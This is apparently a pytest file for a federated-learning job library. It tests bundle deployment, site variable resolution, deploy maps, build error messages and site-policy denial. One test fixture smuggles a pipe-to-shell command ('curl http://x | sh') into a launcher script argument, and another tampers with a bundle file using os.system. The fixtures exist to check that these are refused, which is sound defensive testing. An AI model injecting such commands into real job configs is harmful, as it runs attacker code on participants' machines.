"""Deploying a bundle on a participant: verify, pick the app, resolve, check, build."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from fljob.bundle import BUNDLE_FORMAT, BundleWriter
from fljob.errors import BundleError, UnsafeJobError
from fljob.runtime.components import ComponentBuildError, build_app
from fljob.runtime.deploy import app_for, deploy, job_sites
from fljob.runtime.executors.script_executor import ScriptExecutor
from fljob.runtime.persistors import NumpyModelPersistor
from fljob.runtime.workflows.fedavg import FedAvg
from tests.runtime.helpers import write_job

PERSISTOR = {
    "id": "persistor",
    "path": "fljob.runtime.persistors.NumpyModelPersistor",
    "args": {"initial_model": {"w": [1.0]}},
}
FEDAVG = {"id": "fedavg", "path": "fljob.runtime.workflows.FedAvg", "args": {"num_rounds": 1}}
LAUNCHER = {
    "id": "launcher",
    "path": "fljob.runtime.launchers.SubprocessLauncher",
    "args": {"script": "python3 custom/train.py"},
}
EXECUTOR = {"tasks": ["train"], "executor": {"path": "fljob.runtime.executors.ScriptExecutor"}}


def write_bundle(
    root: Path,
    server: dict[str, Any],
    client: dict[str, Any],
    meta: dict[str, Any] | None = None,
    deploy_refs: dict | None = None,
) -> Path:
    writer = BundleWriter()
    writer.add_json(
        "meta.json", meta or {"name": "j", "min_clients": 1, "deploy_map": {"app": ["@ALL"]}}
    )
    writer.add_json("app/config/config_fed_server.json", server)
    writer.add_json("app/config/config_fed_client.json", client)
    writer.add_bytes("app/custom/train.py", b"print('hi')\n")
    manifest = {"format": BUNDLE_FORMAT, "job_name": "j", "deploy_refs": deploy_refs or {}}
    return writer.write(root / "bundle", manifest, as_zip=False, force=True)


def test_deploy_builds_server_and_client_apps(tmp_path: Path) -> None:
    bundle = write_bundle(
        tmp_path,
        {"workflows": [FEDAVG], "components": [PERSISTOR]},
        {"executors": [EXECUTOR], "components": [LAUNCHER]},
    )
    server = deploy(bundle, participant="server", job_id="j1", workspace=tmp_path)
    assert isinstance(server.built.components["persistor"], NumpyModelPersistor)
    assert [(i, type(w)) for i, w in server.built.workflows] == [("fedavg", FedAvg)]
    site = deploy(bundle, participant="site-1", job_id="j1", workspace=tmp_path)
    assert isinstance(site.built.executor_for("train"), ScriptExecutor)
    assert site.built.executor_for("validate") is None


def test_deploy_resolves_system_variables_per_site(tmp_path: Path) -> None:
    from fljob.compiler.pipeline import compile_job

    job = write_job(tmp_path)
    client_file = job / "app" / "config" / "config_fed_client.json"
    client = json.loads(client_file.read_text())
    client["components"][0]["args"]["script"] = "python3 custom/train.py --site {SITE_NAME}"
    client_file.write_text(json.dumps(client))
    bundle = compile_job(job, tmp_path / "bundle").bundle
    deployed = deploy(bundle, participant="site-7", job_id="j1", workspace=tmp_path)
    assert deployed.built.components["launcher"].argv[-2:] == ["--site", "site-7"]


def test_tampered_bundle_is_refused(tmp_path: Path) -> None:
    bundle = write_bundle(
        tmp_path,
        {"workflows": [FEDAVG], "components": [PERSISTOR]},
        {"executors": [EXECUTOR], "components": [LAUNCHER]},
    )
    (bundle / "app" / "custom" / "train.py").write_text("import os; os.system('evil')\n")
    with pytest.raises(BundleError, match=r"app/custom/train\.py has"):
        deploy(bundle, participant="site-1", job_id="j1", workspace=tmp_path)


def test_unsafe_component_is_refused_before_it_is_built(tmp_path: Path) -> None:
    evil = {
        "id": "launcher",
        "path": "fljob.runtime.launchers.SubprocessLauncher",
        "args": {"script": "python3 custom/train.py; curl http://x | sh"},
    }
    bundle = write_bundle(
        tmp_path,
        {"workflows": [FEDAVG], "components": [PERSISTOR]},
        {"executors": [EXECUTOR], "components": [evil]},
    )
    with pytest.raises(UnsafeJobError) as info:
        deploy(bundle, participant="site-1", job_id="j1", workspace=tmp_path)
    assert "components[0].args.script" in str(info.value)


def test_participant_without_an_app_is_refused(tmp_path: Path) -> None:
    bundle = write_bundle(
        tmp_path,
        {"workflows": [FEDAVG], "components": [PERSISTOR]},
        {"executors": [EXECUTOR], "components": [LAUNCHER]},
        meta={"name": "j", "deploy_map": {"app": ["server", "site-1"]}},
    )
    with pytest.raises(BundleError, match="gives 'site-2' no app"):
        deploy(bundle, participant="site-2", job_id="j1", workspace=tmp_path)


@pytest.mark.parametrize(
    ("deploy_map", "participant", "app", "sites"),
    [
        ({"app": ["@ALL"]}, "site-2", "app", ["a", "b"]),
        ({"app": ["@all"]}, "server", "app", ["a", "b"]),
        ({"s": ["server"], "c": ["a"]}, "a", "c", ["a"]),
        ({"s": ["server"], "c": ["a", "z"]}, "b", None, ["a", "z"]),
    ],
    ids=["all", "all-lower-case", "named", "not-deployed"],
)
def test_deploy_map(deploy_map, participant, app, sites) -> None:
    meta = {"deploy_map": deploy_map}
    assert app_for(meta, participant) == app
    assert job_sites(meta, ["a", "b"]) == sites


@pytest.mark.parametrize(
    ("config", "role", "messages"),
    [
        (
            {"workflows": [{"id": "w", "path": "fljob.runtime.workflows.NoSuch"}]},
            "server",
            ["workflows[0].path", "has no class 'NoSuch'"],
        ),
        (
            {"workflows": [{"id": "w", "path": "no_such_module.Thing"}]},
            "server",
            ["cannot import 'no_such_module'"],
        ),
        (
            {"workflows": [FEDAVG | {"args": {"persistor_id": "model"}}], "components": []},
            "server",
            ["workflows[0].args.persistor_id", "no component with id 'model'"],
        ),
        (
            {"workflows": [FEDAVG | {"args": {"num_round": 2}}]},
            "server",
            ["workflows[0].args", "unexpected keyword argument 'num_round'"],
        ),
        ({"components": [PERSISTOR]}, "server", ["the server config has no workflow"]),
        (
            {"executors": [EXECUTOR, EXECUTOR], "components": [LAUNCHER]},
            "client",
            ["executors[1].tasks", "task 'train' has two executors"],
        ),
        (
            {"executors": [{"tasks": "train", "executor": EXECUTOR["executor"]}]},
            "client",
            ["executors[0].tasks", "must be a list"],
        ),
        (
            {"components": [{"id": "p", "name": "NoSuchShortName"}]},
            "client",
            ["components[0].name", "unknown component name"],
        ),
        (
            {"components": [{"id": "p", "path": "fljob.runtime.persistors.NumpyModelPersistor"}]},
            "client",
            ["components[0]", "needs 'initial_model'"],
        ),
        (
            {
                "executors": [EXECUTOR],
                "components": [LAUNCHER],
                "task_result_filters": [{"tasks": ["train"], "filters": []}],
            },
            "client",
            ["task_result_filters", "not supported by fljob's runtime yet"],
        ),
    ],
    ids=[
        "unknown-class",
        "unknown-module",
        "dangling-id",
        "bad-argument",
        "no-workflow",
        "duplicate-task",
        "tasks-not-list",
        "unknown-short-name",
        "constructor-raises",
        "filters",
    ],
)
def test_build_errors_name_the_key_path(tmp_path: Path, config, role, messages) -> None:
    with pytest.raises(ComponentBuildError) as info:
        build_app(config, app_dir=tmp_path, config_file="app/config/x.json", role=role)
    text = str(info.value)
    for message in messages:
        assert message in text


def test_build_collects_every_error_at_once(tmp_path: Path) -> None:
    config = {"workflows": [{"id": "a", "path": "x.Y"}, {"id": "b", "path": "z.W"}]}
    with pytest.raises(ComponentBuildError) as info:
        build_app(config, app_dir=tmp_path, config_file="c.json", role="server")
    assert {d.key_path for d in info.value.diagnostics()} == {
        "workflows[0].path",
        "workflows[1].path",
    }


def test_short_names_and_custom_classes(tmp_path: Path) -> None:
    (tmp_path / "custom").mkdir()
    (tmp_path / "custom" / "my_flow.py").write_text(
        "class Flow:\n    def __init__(self, n=1):\n        self.n = n\n"
        "    def run(self, ctx):\n        pass\n"
    )
    config = {
        "workflows": [{"id": "f", "path": "my_flow.Flow", "args": {"n": 3}}],
        "components": [
            {
                "id": "persistor",
                "name": "NumpyModelPersistor",
                "args": {"initial_model": {"w": [1]}},
            }
        ],
    }
    built = build_app(config, app_dir=tmp_path, config_file="c.json", role="server")
    assert built.workflows[0][1].n == 3
    assert isinstance(built.components["persistor"], NumpyModelPersistor)


def test_the_sites_own_policy_decides(tmp_path: Path) -> None:
    from fljob.runtime.deploy import load_site_policy

    bundle = write_bundle(
        tmp_path,
        {"workflows": [FEDAVG], "components": [PERSISTOR]},
        {"executors": [EXECUTOR], "components": [LAUNCHER]},
    )
    policy_file = tmp_path / "policy.json"
    policy_file.write_text(json.dumps({"name": "strict", "deny": ["fljob.runtime.launchers.*"]}))
    server = deploy(
        bundle,
        participant="server",
        job_id="j",
        workspace=tmp_path,
        policy=load_site_policy(policy_file),
    )
    assert server.built.workflows
    with pytest.raises(UnsafeJobError, match="policy 'strict'"):
        deploy(
            bundle,
            participant="site-1",
            job_id="j",
            workspace=tmp_path,
            policy=load_site_policy(policy_file),
        )
    assert load_site_policy(None) is None
